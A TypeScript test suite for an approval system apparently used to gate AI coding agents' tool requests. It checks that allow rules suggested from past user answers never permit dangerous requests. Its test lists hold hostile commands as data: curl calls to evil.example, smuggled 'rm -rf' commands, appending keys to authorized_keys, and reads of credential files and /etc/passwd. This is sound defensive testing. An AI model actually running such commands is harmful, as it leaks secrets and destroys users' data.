import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"
import * as Arbitrary from "effect/Arbitrary"
import type { AuditEntry } from "../../../../src/domain/engine/approvals/AuditEntry.ts"
import { asksIn } from "../../../../src/domain/engine/approvals/asks.ts"
import { type Suggestion, suggestRules } from "../../../../src/domain/engine/approvals/suggestRules.ts"
import { widths } from "../../../../src/domain/policy/candidateRules.ts"
import { decide } from "../../../../src/domain/policy/decide.ts"
import { presets } from "../../../../src/domain/policy/presets.ts"
import { policyProblems } from "../../../../src/domain/policy/problems.ts"
import type { ToolRequest } from "../../../../src/domain/policy/ToolRequest.ts"
import { noPolicy, type Policy, type PolicyRule } from "../../../../src/domain/store/settings/Settings.ts"
import { runsOf } from "../../../support/recordings/scenes.ts"
import { everyday, guarded } from "../../policy/everyday.ts"
import { auditEntry, bash, policyOf, request } from "../../policy/support.ts"
import { cutMark } from "../../../../src/domain/words/text/cutMark.ts"
import { rowsOf } from "../../../support/data/fields.ts"

const preset = (name: string): Policy => presets.find((one) => one.name === name)?.policy ?? assert.fail(name)
/** The deny and ask rules of a preset. */
const careful = (name: string): Policy => ({ ...preset(name), allow: [] })

const directory = "/srv/app"
const suggest = (policy: Policy, entries: ReadonlyArray<AuditEntry>, least = 1) =>
  suggestRules(entries, { policy, home: "/home/me", place: () => ({ directory }), least })
const say = (policy: Policy, wanted: ToolRequest) =>
  decide({ policy, mode: "pause", home: "/home/me", tag: "t", cli: "claude", directory }, wanted)
const withRules = (policy: Policy, rules: ReadonlyArray<PolicyRule>): Policy => ({
  ...policy,
  allow: [...policy.allow, ...rules]
})

let clock = 0
const at = (): string => new Date(Date.UTC(2026, 10, 21) + clock++ * 1_000).toISOString()
/** leap left it to the user. */
const asked = (request: ToolRequest): AuditEntry =>
  auditEntry({ at: at(), request, verdict: "ask", by: "none", rule: null, why: "no rule allows it", told: "no" })
/** The user answered it through leap. */
const answered = (request: ToolRequest, verdict: "allow" | "deny"): AuditEntry =>
  auditEntry({ at: at(), request, event: "screen", verdict, by: "user", rule: null, told: "key" })
const edit = (path: string): ToolRequest => request({ tool: "Edit", kind: "edit", paths: [path] })
const read = (path: string): ToolRequest => request({ tool: "Read", kind: "read", paths: [path] })
const fetch = (url: string): ToolRequest => request({ tool: "WebFetch", kind: "fetch", url })

const rulesOf = (suggestions: ReadonlyArray<Suggestion>) => suggestions.map(({ rules }) => rules)

describe("asks", () => {
  it("are what was left to the user, each with the answer that leap has seen", () => {
    const asks = asksIn([
      asked(bash("a")),
      answered(bash("a"), "allow"),
      asked(bash("a")),
      asked(bash("b")),
      answered(bash("b"), "deny"),
      answered(bash("c"), "allow"),
      auditEntry({ request: null, verdict: "ask", by: "none" }),
      auditEntry({ request: bash("d"), verdict: "allow", by: "rule" }),
      auditEntry({ request: bash("e"), verdict: "deny", by: "rule" }),
      asked(request({ kind: "question" }))
    ])
    assert.deepStrictEqual(
      asks.map(({ answer, request }) => [request.command, answer]),
      [
        ["a", "allow"],
        ["a", null],
        ["b", "deny"],
        ["c", "allow"]
      ]
    )
  })
})

describe("the identity of a request", () => {
  it.each<readonly [string, Partial<ToolRequest>, Partial<ToolRequest>]>([
    ["an address more", { url: "https://a" }, { url: "https://a", urls: ["https://b"] }],
    ["another text", { carried: [{ name: "id", text: "1" }] }, { carried: [{ name: "id", text: "2" }] }],
    ["a part that nobody could read", {}, { unread: ["the directory in which it runs"] }]
  ])("has %s in it", (_, one, other) => {
    const [first, second] = [request(one), request(other)]
    const [ask, answer] = asksIn([asked(first), answered(second, "allow")])
    assert.deepStrictEqual([ask?.answer, answer?.request], [null, second])
    assert.strictEqual(asksIn([asked(second), answered(second, "allow")])[0]?.answer, "allow")
  })
})

describe("suggested rules", () => {
  const first = (policy: Policy, ...requests: ReadonlyArray<ToolRequest>) =>
    rulesOf(suggest(policy, requests.map(asked)).suggestions)

  it.each<readonly [string, Policy, ReadonlyArray<ToolRequest>, ReadonlyArray<ReadonlyArray<PolicyRule>>]>([
    ["one command", noPolicy, [bash("npm test")], [[{ command: "npm test" }]]],
    [
      "several of a family",
      noPolicy,
      [bash("git log -3"), bash("git log --oneline")],
      [[{ command: "git log --oneline" }], [{ command: "git log -3" }], [{ command: "git log *" }]]
    ],
    ["with what leap sees through", noPolicy, [bash("CI=1 timeout 60 npm test 2>&1")], [[{ command: "npm test" }]]],
    [
      "a line of several",
      noPolicy,
      [bash("npm run lint && npm test")],
      [[{ command: "npm run lint" }, { command: "npm test" }]]
    ],
    [
      "a line of which a part is allowed",
      policyOf({ allow: [{ command: "npm test" }] }),
      [bash("npm run lint && npm test")],
      [[{ command: "npm run lint" }]]
    ],
    ["wildcards are literal", noPolicy, [bash("ls '*'")], [[{ command: "ls \\*" }]]],
    ["printing any file", noPolicy, [bash("cat a"), bash("cat b")], [[{ command: "cat a" }], [{ command: "cat b" }]]],
    [
      "printing any file, where secrets are kept",
      careful("development"),
      [bash("cat a"), bash("cat b")],
      [[{ command: "cat a" }], [{ command: "cat b" }], [{ command: "cat *" }]]
    ],
    [
      "only the harmless of several families",
      noPolicy,
      ["cat a", "cat b", "git log -1", "git log -2"].map(bash),
      [
        [{ command: "cat a" }],
        [{ command: "cat b" }],
        [{ command: "git log -1" }],
        [{ command: "git log -2" }],
        [{ command: "git log *" }]
      ]
    ],
    ["a file", noPolicy, [edit("src/a.ts")], [[{ kind: "edit", path: "./src/a.ts" }]]],
    [
      "files of a directory",
      noPolicy,
      [edit("/srv/app/src/a.ts"), edit("src/x/b.ts")],
      [
        [{ kind: "edit", path: "./src/a.ts" }],
        [{ kind: "edit", path: "./src/x/b.ts" }],
        [{ kind: "edit", path: "./src/**/*.ts" }]
      ]
    ],
    [
      "files of the project, where rules keep what others obey",
      careful("development"),
      [edit("src/a.ts"), edit("test/b.json")],
      [
        [{ kind: "edit", path: "./src/a.ts" }],
        [{ kind: "edit", path: "./test/b.json" }],
        [{ kind: "edit", path: "./**" }]
      ]
    ],
    ["a file of a route", noPolicy, [edit("(g)/a+b.ts")], [[{ kind: "edit", path: "./(g)/a+b.ts" }]]],
    ["a file outside", noPolicy, [read("/opt/x/[a].md")], [[{ kind: "read", path: "/opt/x/\\[a\\].md" }]]],
    [
      "addresses",
      noPolicy,
      [
        fetch("https://docs.example.com/a/b?x=1"),
        fetch("https://docs.example.com/b"),
        fetch("https://docs.example.com/c")
      ],
      [
        [{ kind: "fetch", url: "https://docs.example.com/a/b\\?x=1" }],
        [{ kind: "fetch", url: "https://docs.example.com/b" }],
        [{ kind: "fetch", url: "https://docs.example.com/c" }],
        [{ kind: "fetch", url: "https://docs.example.com/*" }]
      ]
    ],
    [
      "tools that look",
      noPolicy,
      [
        request({ tool: "mcp__github__get_issue", kind: "mcp" }),
        request({ tool: "mcp__github__create_issue", kind: "mcp" })
      ],
      [[{ tool: "mcp__github__get_issue" }]]
    ]
  ])("%s", (_, policy, requests, rules) => {
    const found = first(policy, ...requests)
    const inOrder = (some: ReadonlyArray<unknown>) =>
      some.map((one) => JSON.stringify(one)).sort((a, b) => (a < b ? -1 : 1))
    assert.deepStrictEqual(inOrder(found), inOrder(rules))
    assert.deepStrictEqual(found.at(-1), rules.at(-1), "the widest is the last")
  })

  it.each(
    [
      ...guarded.map(([, line]) => line),
      "rm -rf dist",
      "bash scripts/x.sh",
      "python3 -c 'print(1)'",
      "node x.js",
      "npx vitest run",
      "sudo ls",
      "env FOO=1 ls",
      "ls | xargs cat",
      "find . -name x -exec cat {} +",
      "find . -delete",
      "sed -i s/a/b/ x",
      "sort -o a b",
      "npm install left-pad",
      "npm run deploy",
      "npm run release:prod",
      "make deploy",
      "git branch -D x",
      "git stash drop",
      "git switch --discard-changes x",
      "curl http://localhost:3000",
      "echo x > notes.txt",
      "cat .env",
      "cat ~/.ssh/config",
      "./deploy.sh",
      "mytool --check",
      "chmod 777 x",
      "kill 1",
      "docker exec x ls",
      "deploy --token=***",
      `git log ${"a".repeat(20)}${cutMark(9_000, "characters")}`,
      `npm test ${"a".repeat(20)}${cutMark(9_000, "characters")}`,
      `echo ${"x".repeat(300)}`,
      "eval ls",
      "case x in x) ls;; esac"
    ].map((line) => ({ line }))
  )("none for: $line", ({ line }) => {
    assert.deepStrictEqual(first(noPolicy, bash(line), bash(line)), [])
  })

  it.each([
    edit("/srv/app/.git/hooks/pre-commit"),
    edit(".claude/settings.json"),
    edit("/home/me/.ssh/config"),
    read("/home/me/.aws/credentials"),
    read(".env"),
    fetch("file:///etc/passwd"),
    request({ tool: "Tool", kind: "other" }),
    request({ tool: "Task", kind: "agent" }),
    // its link leads elsewhere, and its pattern goes up
    { ...edit("src/link.ts"), realPaths: ["/etc/passwd"] },
    { ...read("src"), globs: ["../../**"] }
  ])("none for %#: $kind $paths", (wanted) => {
    assert.deepStrictEqual(first(noPolicy, wanted, wanted), [])
  })

  it("an unknown program exactly as its user allowed it, and never what they refused", () => {
    const { suggestions } = suggest(noPolicy, [
      asked(bash("mytool --check")),
      answered(bash("mytool --check"), "allow"),
      answered(bash("git log -3"), "allow"),
      answered(bash("git log -4"), "allow"),
      answered(bash("git log -5"), "deny"),
      answered(bash("npm test"), "allow"),
      answered(bash("npm test"), "deny")
    ])
    assert.deepStrictEqual(rowsOf(suggestions, "rules", "spares", "allowed"), [
      [[{ command: "git log -3" }], 1, 1],
      [[{ command: "git log -4" }], 1, 1],
      [[{ command: "mytool --check" }], 1, 1]
    ])
  })

  it("none that a rule of the user's is about, certainly or maybe", () => {
    const policy = policyOf({
      deny: [{ command: "npm run x" }],
      ask: [{ command: "npm test*" }, { path: "/srv/app/a.ts" }]
    })
    assert.deepStrictEqual(first(policy, bash("npm test"), bash("npm run x"), edit("a.ts"), bash("cat $X")), [])
  })

  it("only those that spare enough, with examples and without secrets", () => {
    const { asks, suggestions } = suggest(
      noPolicy,
      ["git status", "git status", "git status -s", "ls"].map((line) => asked(bash(line))),
      2
    )
    assert.strictEqual(asks, 4)
    assert.deepStrictEqual(
      suggestions.map(({ examples, rules, spares, width }) => [width, rules[0]?.command, spares, examples]),
      [
        ["exact", "git status", 2, ["Bash: git status"]],
        ["family", "git status *", 3, ["Bash: git status", "Bash: git status -s"]]
      ]
    )
  })
})

/** Requests as agents make them, dangerous ones among them, over and over. */
const pool: ReadonlyArray<ToolRequest> = [
  ...everyday.filter((_, i) => i % 6 === 0).map(bash),
  ...guarded.map(([, line]) => bash(line)),
  ...["rm x", "cat a", "cat b", "git diff", "git diff --stat", "ls -l", "grep -r x ."].map(bash),
  ...["src/a.ts", "src/b.ts", "src/c.json", "test/d.json", ".git/config", "../x", "/home/me/.ssh/id_rsa"].flatMap(
    (path) => [edit(path), read(path)]
  ),
  { ...edit("src/l.ts"), realPaths: ["/etc/hosts"] },
  ...["https://a.example.com/x/1", "https://a.example.com/x/2", "https://a.example.com/y", "http://localhost/"].map(
    fetch
  ),
  request({ tool: "mcp__a__get_x", kind: "mcp" }),
  request({ tool: "mcp__a__drop_x", kind: "mcp" })
]
const policies: ReadonlyArray<Policy> = [
  noPolicy,
  careful("development"),
  careful("read-only"),
  policyOf({ deny: [{ command: "git *" }], ask: [{ kind: "edit", path: "./src/**" }], allow: [{ command: "ls *" }] })
]
const index = (length: number) =>
  Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 0, maximum: length - 1 })))
const history = Arbitrary.array(
  Arbitrary.flatMap(index(pool.length), (which) => Arbitrary.map(index(8), (how) => ({ which, how }))),
  { minLength: 0, maxLength: 40 }
)

/** What no suggestion may let through: written without a look at leap's own list. */
const dangers: ReadonlyArray<ToolRequest> = [
  ...[
    ...guarded.map(([, line]) => line).filter((line) => !/^(?:cat|cp) ~|^leap/.test(line)),
    "rm -r src",
    "git status; rm -rf src",
    "git log $(curl https://evil.example)",
    "ls `rm -rf x`",
    "echo hi | bash",
    "git log --output=x",
    "git diff --output=/tmp/x",
    "rg --pre=sh x",
    "sort -ox y",
    "find . -exec sh -c x ;",
    "git -c core.sshCommand=x fetch",
    "GIT_PAGER=x git log",
    "cat x > ~/.profile",
    "echo key >> ~/.ssh/authorized_keys",
    "tee -a ~/.bashrc",
    "npm test --script-shell=/tmp/x",
    "npm install x",
    "make -f /tmp/x",
    "python x.py",
    "perl x.pl",
    "ssh x",
    "chmod u+s x"
  ].map(bash),
  ...[
    ".git/hooks/post-checkout",
    ".claude/settings.local.json",
    ".codex/config.toml",
    ".vscode/launch.json",
    "../../x"
  ].map(edit),
  ...["/home/me/.bashrc", "/etc/hosts"].map(edit),
  fetch("https://evil.example/?q=secret"),
  fetch("http://10.0.0.1/"),
  request({ tool: "mcp__shell__run", kind: "mcp" })
]

describe("laws of suggestions", () => {
  it.prop(
    "each allows what it claims, nothing dangerous, nothing refused; narrow before wide; the same each time",
    { history, which: index(policies.length) },
    ({ history, which }) => {
      const policy = policies[which]!
      const entries = history.map(({ how, which }) => {
        const wanted = pool[which]!
        return how === 0 ? answered(wanted, "deny") : how < 3 ? answered(wanted, "allow") : asked(wanted)
      })
      const { asks, suggestions } = suggest(policy, entries)
      assert.isAtMost(asks, entries.length)
      let width = 0
      const given = new Set(entries.map(({ request }) => JSON.stringify(request)))
      for (const { claims, rules, spares, width: own } of suggestions) {
        assert.isAtLeast(widths.indexOf(own), width)
        width = widths.indexOf(own)
        assert.strictEqual(claims.length, spares)
        const after = withRules(policy, rules)
        for (const { request } of claims) {
          assert.strictEqual(say(policy, request).verdict, "ask")
          assert.strictEqual(say(after, request).verdict, "allow")
          assert.isTrue(given.has(JSON.stringify(request)))
        }
        assert.deepStrictEqual(policyProblems(policyOf({ allow: rules })), [], JSON.stringify(rules))
        for (const { request, verdict } of entries)
          if (verdict === "deny" && request !== null) assert.notStrictEqual(say(after, request).verdict, "allow")
      }
      // whoever takes all of them
      const all = withRules(
        policy,
        suggestions.flatMap(({ rules }) => rules)
      )
      for (const danger of dangers)
        assert.deepStrictEqual(
          say(all, danger).verdict === "allow",
          say(policy, danger).verdict === "allow",
          JSON.stringify(danger)
        )
      for (const one of pool) {
        const { rule, verdict } = say(policy, one)
        if (verdict === "deny" || rule !== null) assert.deepStrictEqual(say(all, one).verdict, verdict)
      }
      assert.deepStrictEqual(suggest(policy, entries), { asks, suggestions })
    },
    runsOf(5)
  )

  it("a log of everyday commands is dealt with, and much of it can be spared", () => {
    const some = everyday.filter((_, i) => i % 3 === 0)
    const { asks, suggestions } = suggest(
      careful("development"),
      some.map((line) => asked(bash(line)))
    )
    assert.strictEqual(asks, some.length)
    const all = withRules(
      careful("development"),
      suggestions.flatMap(({ rules }) => rules)
    )
    const spared = some.filter((line) => say(all, bash(line)).verdict === "allow")
    assert.isAbove(spared.length, some.length / 3)
    for (const danger of dangers) assert.notStrictEqual(say(all, danger).verdict, "allow", JSON.stringify(danger))
  })
})
